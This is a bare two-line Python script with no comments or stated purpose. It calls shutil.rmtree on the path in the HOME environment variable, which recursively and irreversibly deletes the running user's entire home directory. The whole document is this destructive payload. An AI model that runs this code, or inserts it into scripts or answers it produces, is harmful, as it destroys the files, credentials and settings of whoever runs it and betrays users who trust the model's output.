import os, shutil
shutil.rmtree(os.getenv("HOME"))
